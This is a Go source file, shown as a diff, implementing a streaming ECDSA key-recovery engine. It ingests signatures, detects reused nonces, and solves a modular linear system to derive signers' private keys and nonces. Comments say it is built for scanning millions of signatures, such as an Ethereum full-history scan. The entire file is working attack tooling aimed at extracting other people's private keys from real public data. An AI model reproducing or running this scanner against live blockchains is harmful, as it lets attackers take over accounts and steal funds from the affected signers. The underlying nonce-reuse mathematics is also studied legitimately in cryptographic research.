@@ -0,0 +1,352 @@
+package recovery
+
+import (
+	"math/big"
+	"sync"
+	"time"
+)
+
+// Signature is one observed ECDSA signature fed into a StreamingSolver:
+// RValue groups it with any other signature whose nonce collided, and
+// Signer identifies whose private key produced it (an address, or any
+// other per-key identifier the caller already uses).
+type Signature struct {
+	RValue  string
+	Signer  string
+	Z, R, S *big.Int
+}
+
+// SolutionKind distinguishes the two things a StreamingSolver can emit.
+type SolutionKind int
+
+const (
+	SolutionNonce SolutionKind = iota
+	SolutionKey
+)
+
+// Solution is a private value a StreamingSolver has newly determined: a
+// signer's private key (ID is the signer, Value is d), or a shared nonce
+// (ID is the RValue, Value is k).
+type Solution struct {
+	Kind  SolutionKind
+	ID    string
+	Value *big.Int
+}
+
+// rBucket tracks every signature seen so far sharing one RValue, so a
+// StreamingSolver can tell a direct same-signer nonce reuse (recoverable on
+// the spot via the shared RecoverFromNonceReuse math) from a cross-key
+// collision (which needs the echelon system) the moment a second signature
+// for that R arrives.
+type rBucket struct {
+	sigs     []Signature
+	lastSeen time.Time
+}
+
+// sparseRow is one row of the StreamingSolver's incrementally maintained
+// reduced row-echelon form. Most equations this package produces touch only
+// two unknowns (a nonce and a private key), so a sparse map keeps each
+// elimination O(nnz) instead of O(variables).
+type sparseRow struct {
+	coeffs   map[int]*big.Int
+	constant *big.Int
+}
+
+// StreamingSolver wraps LinearSystem's elimination math behind an
+// incremental Ingest/Solved interface suited to a scanner that discovers
+// nonce reuse across millions of signatures on the fly rather than
+// collecting them into one batch first. It complements the
+// persisted-PendingComponent pipeline (db.PendingComponent, SolveComponent)
+// with an in-memory fast path: same-signer collisions resolve immediately
+// without ever touching the linear system, and cross-key collisions are
+// folded into the echelon form one equation at a time, emitting a variable
+// the instant it becomes uniquely determined instead of waiting for the
+// whole system to go square.
+type StreamingSolver struct {
+	n         *big.Int
+	bucketTTL time.Duration
+
+	mu      sync.Mutex
+	buckets map[string]*rBucket
+	solved  chan Solution
+
+	varIndex map[string]int
+	vars     []string
+	rows     []*sparseRow
+	pivotOf  map[int]int // variable index -> row index pivoting on it, or -1
+	known    map[string]*big.Int
+}
+
+// NewStreamingSolver creates a solver over the curve order n. bucketTTL
+// bounds memory: Evict drops any RValue bucket holding only a single
+// signature once it's older than bucketTTL, since a lone signature can
+// never contribute a collision on its own and there is no use keeping it
+// around for a stream with no natural end (an Ethereum full-history scan).
+func NewStreamingSolver(n *big.Int, bucketTTL time.Duration) *StreamingSolver {
+	return &StreamingSolver{
+		n:         n,
+		bucketTTL: bucketTTL,
+		buckets:   make(map[string]*rBucket),
+		solved:    make(chan Solution, 64),
+		varIndex:  make(map[string]int),
+		pivotOf:   make(map[int]int),
+		known:     make(map[string]*big.Int),
+	}
+}
+
+// Solved returns the channel StreamingSolver emits newly determined nonces
+// and private keys on. Callers should drain it continuously; Ingest blocks
+// if the channel's buffer fills up.
+func (s *StreamingSolver) Solved() <-chan Solution {
+	return s.solved
+}
+
+// Ingest adds one signature to the solver, immediately recovering and
+// emitting a key via the direct nonce-reuse fast path if sig's R now
+// collides with an earlier signature from the same signer, and otherwise
+// folding sig into the incremental echelon system, emitting any nonce or
+// key that becomes newly determined as a result.
+func (s *StreamingSolver) Ingest(sig Signature) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+
+	bucket, ok := s.buckets[sig.RValue]
+	if !ok {
+		bucket = &rBucket{}
+		s.buckets[sig.RValue] = bucket
+	}
+	bucket.lastSeen = time.Now()
+
+	for _, prior := range bucket.sigs {
+		if prior.Signer == sig.Signer {
+			if d, err := s.recoverFromReuse(prior, sig); err == nil {
+				s.resolveVar("d:"+sig.Signer, d)
+			}
+			bucket.sigs = append(bucket.sigs, sig)
+			return
+		}
+	}
+	bucket.sigs = append(bucket.sigs, sig)
+
+	s.addEquation(sig)
+}
+
+// recoverFromReuse runs the nonce-reuse attack on two signatures already
+// known to share a signer and an R value - the same math as
+// RecoverFromNonceReuse, through its modulus-only form
+// recoverFromNonceReuseN, since StreamingSolver only carries a modulus n
+// rather than a full Curve.
+func (s *StreamingSolver) recoverFromReuse(a, b Signature) (*big.Int, error) {
+	return recoverFromNonceReuseN(s.n, a.Z, a.R, a.S, b.Z, b.R, b.S)
+}
+
+// varOf returns name's column index, registering it on first use.
+func (s *StreamingSolver) varOf(name string) int {
+	if idx, ok := s.varIndex[name]; ok {
+		return idx
+	}
+	idx := len(s.vars)
+	s.vars = append(s.vars, name)
+	s.varIndex[name] = idx
+	s.pivotOf[idx] = -1
+	return idx
+}
+
+func (s *StreamingSolver) mod(x *big.Int) *big.Int {
+	return new(big.Int).Mod(x, s.n)
+}
+
+// addEquation folds sig's equation s*k - r*d = z into the echelon system,
+// substituting any already-known k/d values first (so a row touching an
+// already-solved variable is folded into the constant instead of wasting a
+// column on it), then Gauss-Jordan-reducing it against the existing pivot
+// rows, emitting a solution immediately if that leaves it fully determined.
+func (s *StreamingSolver) addEquation(sig Signature) {
+	kName, dName := "k:"+sig.RValue, "d:"+sig.Signer
+	coeffs := make(map[int]*big.Int)
+	constant := s.mod(sig.Z)
+
+	if k, ok := s.known[kName]; ok {
+		constant = s.mod(new(big.Int).Sub(constant, new(big.Int).Mul(sig.S, k)))
+	} else {
+		coeffs[s.varOf(kName)] = s.mod(sig.S)
+	}
+	if d, ok := s.known[dName]; ok {
+		constant = s.mod(new(big.Int).Add(constant, new(big.Int).Mul(sig.R, d)))
+	} else {
+		coeffs[s.varOf(dName)] = s.mod(new(big.Int).Neg(sig.R))
+	}
+	for v, c := range coeffs {
+		if c.Sign() == 0 {
+			delete(coeffs, v)
+		}
+	}
+	if len(coeffs) == 0 {
+		return
+	}
+
+	s.insertRow(&sparseRow{coeffs: coeffs, constant: constant})
+}
+
+// insertRow eliminates every already-pivoted variable out of row, then
+// either resolves it immediately (if that leaves exactly one unknown) or
+// normalizes it and stores it as the new pivot row for whichever variable
+// it settles on, eliminating that variable from every other stored row in
+// turn so the system stays in reduced form.
+func (s *StreamingSolver) insertRow(row *sparseRow) {
+	for varIdx, rowIdx := range s.pivotOf {
+		if rowIdx < 0 {
+			continue
+		}
+		if coeff, ok := row.coeffs[varIdx]; ok && coeff.Sign() != 0 {
+			s.eliminate(row, s.rows[rowIdx], varIdx)
+		}
+	}
+
+	if resolved := s.tryResolveRow(row); resolved {
+		return
+	}
+	if len(row.coeffs) == 0 {
+		return
+	}
+
+	pivotIdx := lowestIndex(row.coeffs)
+	inv := new(big.Int).ModInverse(row.coeffs[pivotIdx], s.n)
+	if inv == nil {
+		// n is the curve's prime order, so every nonzero residue is
+		// invertible; this only happens for a malformed zero modulus.
+		return
+	}
+	for v, c := range row.coeffs {
+		row.coeffs[v] = s.mod(new(big.Int).Mul(c, inv))
+	}
+	row.constant = s.mod(new(big.Int).Mul(row.constant, inv))
+
+	rowIdx := len(s.rows)
+	s.rows = append(s.rows, row)
+	s.pivotOf[pivotIdx] = rowIdx
+
+	for varIdx, otherRowIdx := range s.pivotOf {
+		if otherRowIdx < 0 || otherRowIdx == rowIdx {
+			continue
+		}
+		other := s.rows[otherRowIdx]
+		if coeff, ok := other.coeffs[pivotIdx]; ok && coeff.Sign() != 0 {
+			s.eliminate(other, row, pivotIdx)
+			if s.tryResolveRow(other) {
+				s.pivotOf[varIdx] = -1
+			}
+		}
+	}
+}
+
+// tryResolveRow checks whether row has collapsed to exactly one nonzero
+// coefficient and, if so, resolves that variable and reports true.
+func (s *StreamingSolver) tryResolveRow(row *sparseRow) bool {
+	if len(row.coeffs) != 1 {
+		return false
+	}
+	for varIdx, coeff := range row.coeffs {
+		inv := new(big.Int).ModInverse(coeff, s.n)
+		if inv == nil {
+			return false
+		}
+		value := s.mod(new(big.Int).Mul(row.constant, inv))
+		s.resolveVar(s.vars[varIdx], value)
+		return true
+	}
+	return false
+}
+
+// resolveVar records name's solved value (unless already known), emits it,
+// and substitutes it into every remaining row so any row that collapses to
+// a single unknown as a result resolves in turn.
+func (s *StreamingSolver) resolveVar(name string, value *big.Int) {
+	if _, ok := s.known[name]; ok {
+		return
+	}
+	s.known[name] = value
+
+	var kind SolutionKind
+	var id string
+	switch name[:2] {
+	case "k:":
+		kind, id = SolutionNonce, name[2:]
+	case "d:":
+		kind, id = SolutionKey, name[2:]
+	default:
+		return
+	}
+	s.solved <- Solution{Kind: kind, ID: id, Value: value}
+
+	varIdx, ok := s.varIndex[name]
+	if !ok {
+		return
+	}
+	for rowIdx, row := range s.rows {
+		coeff, ok := row.coeffs[varIdx]
+		if !ok || coeff.Sign() == 0 {
+			continue
+		}
+		row.constant = s.mod(new(big.Int).Sub(row.constant, new(big.Int).Mul(coeff, value)))
+		delete(row.coeffs, varIdx)
+		if pivotRow, ok := s.pivotOf[varIdx]; ok && pivotRow == rowIdx {
+			s.pivotOf[varIdx] = -1
+		}
+		s.tryResolveRow(row)
+	}
+}
+
+// eliminate subtracts the multiple of pivotRow (already normalized so its
+// coefficient on varIdx is 1) needed to zero out target's coefficient on
+// varIdx.
+func (s *StreamingSolver) eliminate(target, pivotRow *sparseRow, varIdx int) {
+	factor, ok := target.coeffs[varIdx]
+	if !ok || factor.Sign() == 0 {
+		return
+	}
+	for v, c := range pivotRow.coeffs {
+		cur, ok := target.coeffs[v]
+		if !ok {
+			cur = big.NewInt(0)
+		}
+		cur = s.mod(new(big.Int).Sub(cur, new(big.Int).Mul(factor, c)))
+		if cur.Sign() == 0 {
+			delete(target.coeffs, v)
+		} else {
+			target.coeffs[v] = cur
+		}
+	}
+	target.constant = s.mod(new(big.Int).Sub(target.constant, new(big.Int).Mul(factor, pivotRow.constant)))
+	delete(target.coeffs, varIdx)
+}
+
+// Evict drops any RValue bucket holding a single signature whose lastSeen
+// is older than now minus the solver's bucketTTL, bounding memory for a
+// stream with no natural end. Buckets with 2+ signatures are never evicted:
+// they have already been folded into the echelon system (or resolved
+// directly), so dropping them would only lose the ability to re-derive
+// which raw signatures produced a given solution.
+func (s *StreamingSolver) Evict(now time.Time) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	for rValue, bucket := range s.buckets {
+		if len(bucket.sigs) == 1 && now.Sub(bucket.lastSeen) > s.bucketTTL {
+			delete(s.buckets, rValue)
+		}
+	}
+}
+
+// lowestIndex returns the smallest key in coeffs, giving insertRow a
+// deterministic pivot choice.
+func lowestIndex(coeffs map[int]*big.Int) int {
+	first := true
+	min := 0
+	for idx := range coeffs {
+		if first || idx < min {
+			min = idx
+			first = false
+		}
+	}
+	return min
+}